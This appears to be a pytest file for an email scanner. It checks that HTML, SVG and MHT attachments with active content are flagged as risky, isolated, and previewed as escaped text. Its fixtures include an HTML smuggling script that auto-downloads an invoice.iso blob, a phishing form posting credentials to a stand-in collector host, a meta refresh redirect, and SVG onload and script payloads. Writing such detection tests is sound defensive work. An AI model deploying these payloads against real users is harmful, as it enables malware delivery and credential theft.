"""Issue 20 item 6: HTML and SVG attachments that act when opened (HTML smuggling, credential
phishing) are risky with HTML_ACTIVE_CONTENT naming the element, and isolated; an HTML mail body
is not an attachment and stays as it is; the portal previews such files as text only."""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from tests.unit.scan.scanfiles import eml, make_zip, only

SMUGGLER = (b"<!DOCTYPE html><html><body><p>Your document is ready.</p><script>"
            b"var b=new Blob([atob('TVqQAAMAAAAEAAAA')]);var a=document.createElement('a');"
            b"a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click();</script></body></html>")
PHISH_FORM = (b"<html><body><form method=post action='https://collector.example.net/p'>"
              b"<input name=user><input type=password name=pw></form></body></html>")
REFRESH = b'<html><head><meta http-equiv="Refresh" content="0; url=https://evil.example/"></head></html>'
DATA_LINK = (b"<html><body><a download='a.exe' href=' data:application/octet-stream;base64,TVqQ'>"
             b"open</a></body></html>")
SVG_ONLOAD = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch(1)">'
              b'<rect width="10" height="10"/></svg>')
SVG_SCRIPT = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
              b'<script xlink:href="data:text/javascript,alert(1)"/></svg>')
MHT = (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b1"\r\n\r\n--b1\r\n'
       b'Content-Type: text/html\r\nContent-Location: file:///C:/page.htm\r\n\r\n'
       b'<html><body onload="go()">hi</body></html>\r\n--b1--\r\n')
PLAIN_PAGE = (b"<!DOCTYPE html><html><head><title>Minutes</title><style>p{color:#333}</style></head>"
              b"<body><h1>Minutes</h1><p>See <a href='https://example.com/a'>the plan</a>.</p>"
              b"<img src='data:image/png;base64,iVBORw0KGgo=' alt=logo></body></html>")


def details(report: dict[str, Any]) -> list[str]:
    return [f["detail"] for f in report["findings"] if f["symbol"] == "HTML_ACTIVE_CONTENT"]


@pytest.mark.parametrize(("name", "data", "ctype", "detail"), [
    ("invoice.html", SMUGGLER, "text/html", "script"),
    ("login.htm", PHISH_FORM, "application/octet-stream", "form action=https://collector.example.net/p"),
    ("notice.shtml", REFRESH, "text/html", "meta refresh"),
    ("open.xhtml", DATA_LINK, "application/xhtml+xml", "data: URL"),
    ("logo.svg", SVG_ONLOAD, "image/svg+xml", "onload"),
    ("chart.svg", SVG_SCRIPT, "image/svg+xml", "script"),
    ("page.mht", MHT, "application/octet-stream", "onload"),
], ids=["smuggling-script", "phishing-form", "meta-refresh", "data-url", "svg-onload", "svg-script",
        "mht-onload"])
def test_active_html_and_svg_attachments_are_risky_and_isolated(analyse, name: str, data: bytes,
                                                                ctype: str, detail: str) -> None:
    report = analyse(eml((name, data, ctype)))
    att = only(report)
    assert att["verdict"] == "risky" and "HTML_ACTIVE_CONTENT" in att["symbols"], att
    assert att["action"] == "isolate"
    assert detail in details(report), report["findings"]


def test_active_html_inside_a_zip_is_found(analyse) -> None:
    att = only(analyse(eml(("files.zip", make_zip({"docs/invoice.html": SMUGGLER})))))
    assert "HTML_ACTIVE_CONTENT" in att["symbols"] and att["action"] == "isolate", att


def test_a_page_without_active_content_stays_safe_beside_one_with_it(analyse) -> None:
    report = analyse(eml(("minutes.html", PLAIN_PAGE, "text/html"),
                         ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>',
                          "image/svg+xml"),
                         ("invoice.html", SMUGGLER, "text/html")))
    verdicts = {a["filename"]: a["verdict"] for a in report["attachments"]}
    assert verdicts == {"minutes.html": "safe", "logo.svg": "safe", "invoice.html": "risky"}


def test_an_html_mail_body_with_script_is_not_an_attachment(analyse) -> None:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@example.com", "alice@example.test", "news"
    msg.set_content("plain part")
    msg.add_alternative(SMUGGLER.decode(), subtype="html")
    msg.add_attachment(SVG_ONLOAD, maintype="image", subtype="svg+xml", filename="logo.svg")
    report = analyse(msg.as_bytes())
    att = only(report)  # the body is not listed; the SVG file is
    assert att["filename"] == "logo.svg" and "HTML_ACTIVE_CONTENT" in att["symbols"]
    assert details(report) == ["onload"]


def test_the_portal_isolates_them_and_previews_them_as_escaped_text(tmp_path: Path) -> None:
    from tests.e2e.test_portal import article, open_portal, path_of
    from tests.unit.isolation.builders import make_runtime, message

    p = open_portal(make_runtime(tmp_path / "var"),
                    message(("logo.svg", SVG_ONLOAD, "image/svg+xml"),
                            ("invoice.html", SMUGGLER, "text/html")))
    page = p.page()
    for name, escaped in (("logo.svg", "&lt;svg xmlns="), ("invoice.html", "&lt;script&gt;var b=")):
        assert "/preview" in article(page, name)
        shown = p.client.get(f"/m/{p.token}/f/{path_of(p, name)}/preview")
        assert shown.status_code == 200, shown.text
        assert "<svg" not in shown.text and "<script>" not in shown.text and "data:image" not in shown.text
        assert escaped in shown.text  # the source, as text in a <pre>
